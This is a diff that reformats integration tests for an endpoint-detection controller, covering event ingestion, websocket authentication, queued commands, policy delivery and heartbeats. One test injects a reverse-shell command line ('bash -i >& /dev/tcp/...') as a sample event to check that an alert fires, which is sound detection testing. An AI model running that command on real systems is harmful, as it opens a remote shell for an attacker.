@@ -27,13 +27,20 @@ from controller.store import CommandStatus
 pytestmark = pytest.mark.timeout(120)
 
 
-def exec_event(host_id: str, cmdline: str, pid: int, parent: dict[str, Any] | None = None
-               ) -> dict[str, Any]:
+def exec_event(
+    host_id: str, cmdline: str, pid: int, parent: dict[str, Any] | None = None
+) -> dict[str, Any]:
     ev = new_event(Action.EXEC, host={"id": host_id, "name": "sensor-01"}, tier=Tier.FALLBACK)
     exe = "/usr/bin/bash" if cmdline.startswith("bash") else "/usr/bin/" + cmdline.split()[0]
-    ev["process"] = {"pid": pid, "entity_id": f"e{pid}", "executable": exe,
-                     "name": exe.rsplit("/", 1)[1], "command_line": cmdline,
-                     "args": cmdline.split(), "parent": parent or {}}
+    ev["process"] = {
+        "pid": pid,
+        "entity_id": f"e{pid}",
+        "executable": exe,
+        "name": exe.rsplit("/", 1)[1],
+        "command_line": cmdline,
+        "args": cmdline.split(),
+        "parent": parent or {},
+    }
     ev["user"] = {"id": "1000", "name": "alice"}
     return ev
 
@@ -61,10 +68,16 @@ def test_batch_is_stored_and_reverse_shell_alert_reaches_the_websocket(controlle
     try:
         # A parent shell the controller sees first, then the reverse shell it starts.
         parent = exec_event(host, "sshd: alice [priv]", 100)
-        benign = [exec_event(host, f"ls -l /tmp/{i}", 200 + i,
-                             {"pid": 100, "entity_id": "e100"}) for i in range(50)]
-        shell = exec_event(host, "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", 300,
-                           {"pid": 100, "entity_id": "e100", "executable": "/usr/sbin/sshd"})
+        benign = [
+            exec_event(host, f"ls -l /tmp/{i}", 200 + i, {"pid": 100, "entity_id": "e100"})
+            for i in range(50)
+        ]
+        shell = exec_event(
+            host,
+            "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1",
+            300,
+            {"pid": 100, "entity_id": "e100", "executable": "/usr/sbin/sshd"},
+        )
         sensor.outbox.append([parent, *benign, shell])
         sensor.outbox.flush()
 
@@ -78,13 +91,15 @@ def test_batch_is_stored_and_reverse_shell_alert_reaches_the_websocket(controlle
         assert data["event_id"] is not None
 
         # The unfiltered stream saw the events themselves (with the certificate's host id).
-        seen = everything.next(lambda m: m["kind"] == "event"
-                               and m["data"]["process"]["pid"] == 300)
+        seen = everything.next(
+            lambda m: m["kind"] == "event" and m["data"]["process"]["pid"] == 300
+        )
         assert seen["data"]["host_id"] == host
 
         store = controller.ctx.store
-        stored = wait_for(lambda: store.search_events(host_id=host, limit=100).events, 5,
-                          "events stored")
+        stored = wait_for(
+            lambda: store.search_events(host_id=host, limit=100).events, 5, "events stored"
+        )
         assert len(stored) == 52
         assert store.get_event(data["event_id"]).event["process"]["pid"] == 300
         [row] = store.list_alerts(host_id=host)
@@ -119,22 +134,35 @@ def test_duplicate_batch_counted_not_stored_twice(controller, sensor_factory):
 
 def test_stream_refuses_without_valid_credentials(controller):
     url = f"wss://127.0.0.1:{controller.port}/api/v1/stream"
-    for headers, status in (({}, 401), ({"Authorization": "Bearer edr_nope"}, 401),
-                            ({"Authorization": f"Bearer {controller.api_token()}",
-                              "Origin": "https://evil.example"}, 403)):
+    for headers, status in (
+        ({}, 401),
+        ({"Authorization": "Bearer edr_nope"}, 401),
+        (
+            {"Authorization": f"Bearer {controller.api_token()}", "Origin": "https://evil.example"},
+            403,
+        ),
+    ):
         with pytest.raises(websockets.exceptions.InvalidStatus) as err:
-            ws_client.connect(url, ssl=controller.ssl_context(), server_hostname="localhost",
-                              additional_headers=headers, open_timeout=5)
+            ws_client.connect(
+                url,
+                ssl=controller.ssl_context(),
+                server_hostname="localhost",
+                additional_headers=headers,
+                open_timeout=5,
+            )
         assert err.value.response.status_code == status
         assert "error" in orjson.loads(err.value.response.body)
 
 
 def test_stream_bad_filter_is_reported_and_closed(controller):
     url = f"wss://127.0.0.1:{controller.port}/api/v1/stream?severity=urgent"
-    with ws_client.connect(url, ssl=controller.ssl_context(), server_hostname="localhost",
-                           additional_headers={"Authorization":
-                                               f"Bearer {controller.api_token()}"},
-                           open_timeout=5) as ws:
+    with ws_client.connect(
+        url,
+        ssl=controller.ssl_context(),
+        server_hostname="localhost",
+        additional_headers={"Authorization": f"Bearer {controller.api_token()}"},
+        open_timeout=5,
+    ) as ws:
         msg = orjson.loads(ws.recv(timeout=5))
         assert msg["kind"] == "error" and "urgent" in msg["error"]
         with pytest.raises(websockets.exceptions.ConnectionClosed) as closed:
@@ -155,14 +183,22 @@ def test_command_for_offline_host_runs_when_it_connects(controller, sensor_facto
     # Reconnect with a fresh client on the same credentials and outbox.
     from backplane.client import BackplaneClient
 
-    sensor.client = BackplaneClient(sensor.client.config, sensor.outbox, hello=sensor._hello,
-                                    on_command=sensor._on_command, on_policy=sensor._on_policy)
+    sensor.client = BackplaneClient(
+        sensor.client.config,
+        sensor.outbox,
+        hello=sensor._hello,
+        on_command=sensor._on_command,
+        on_policy=sensor._on_policy,
+    )
     sensor.start()
     wait_for(lambda: sensor.commands, 10, "command delivered")
     assert sensor.commands[0].id == str(cmd.id)
     assert sensor.commands[0].action == "kill" and sensor.commands[0].args == {"pid": 4242}
-    done = wait_for(lambda: (c := store.get_command(cmd.id)).status == CommandStatus.SUCCEEDED
-                    and c, 10, "result stored")
+    done = wait_for(
+        lambda: (c := store.get_command(cmd.id)).status == CommandStatus.SUCCEEDED and c,
+        10,
+        "result stored",
+    )
     assert done.output == {"did": "kill", "args": {"pid": 4242}, "status": "ok"}
     assert controller.ctx.metrics.command_results == 1
 
@@ -174,35 +210,43 @@ def test_command_result_from_another_host_is_ignored(controller, sensor_factory)
     cmd = store.queue_command(a.host_id, "kill", {"pid": 1}, "alice", "idem-x", 60)
     from backplane.messages import CommandResult
 
-    controller.call(controller.ctx.hooks.command_result(
-        b.host_id, CommandResult(str(cmd.id), "ok", {})))
-    controller.call(controller.ctx.hooks.command_result(
-        b.host_id, CommandResult("not-a-number", "ok", {})))
+    controller.call(
+        controller.ctx.hooks.command_result(b.host_id, CommandResult(str(cmd.id), "ok", {}))
+    )
+    controller.call(
+        controller.ctx.hooks.command_result(b.host_id, CommandResult("not-a-number", "ok", {}))
+    )
     assert store.get_command(cmd.id).status == CommandStatus.QUEUED  # untouched
     controller.run(lambda: controller.ctx.backplane.notify_command(a.host_id))
-    wait_for(lambda: store.get_command(cmd.id).status == CommandStatus.SUCCEEDED, 10,
-             "its own host's result")
+    wait_for(
+        lambda: store.get_command(cmd.id).status == CommandStatus.SUCCEEDED,
+        10,
+        "its own host's result",
+    )
     assert all(c.id != str(cmd.id) for c in b.commands)
 
 
-def test_policy_change_reaches_sensor_and_applied_version_is_recorded(controller,
-                                                                        sensor_factory):
+def test_policy_change_reaches_sensor_and_applied_version_is_recorded(controller, sensor_factory):
     sensor = sensor_factory("sensor-pol").start()
     store = controller.ctx.store
     pv = store.put_policy({"deny": {"hashes": ["ab" * 32]}}, "alice", "block a hash")
     controller.run(lambda: controller.ctx.backplane.notify_policy(sensor.host_id))
     wait_for(lambda: sensor.policies, 10, "policy delivered")
     assert sensor.policies[-1] == (pv.version, {"deny": {"hashes": ["ab" * 32]}})
-    host = wait_for(lambda: (h := store.get_host(sensor.host_id)).policy_version == pv.version
-                    and h, 10, "applied version recorded")
+    host = wait_for(
+        lambda: (h := store.get_host(sensor.host_id)).policy_version == pv.version and h,
+        10,
+        "applied version recorded",
+    )
     assert host.policy_applied_at is not None
 
 
 def test_heartbeat_metrics_recorded(controller, sensor_factory):
     sensor = sensor_factory("sensor-hb").start()
     store = controller.ctx.store
-    host = wait_for(lambda: (h := store.get_host(sensor.host_id)).metrics and h, 10,
-                    "heartbeat stored")
+    host = wait_for(
+        lambda: (h := store.get_host(sensor.host_id)).metrics and h, 10, "heartbeat stored"
+    )
     assert "cpu_percent" in host.metrics
     assert host.hostname == "sensor-hb" and host.tiers == {"process": "fallback"}
 
@@ -212,8 +256,9 @@ def test_unknown_routes_are_json_and_static_metrics_is_plain(controller):
     assert status == 404 and "error" in orjson.loads(body)
     ctx = ssl.create_default_context(cafile=str(controller.pki.ca_path))
     # The server certificate is valid for the configured names.
-    with urllib.request.urlopen(f"https://localhost:{controller.port}/metrics",
-                                context=ctx, timeout=10) as resp:
+    with urllib.request.urlopen(
+        f"https://localhost:{controller.port}/metrics", context=ctx, timeout=10
+    ) as resp:
         assert resp.headers["content-type"].startswith("text/plain; version=0.0.4")
 
 
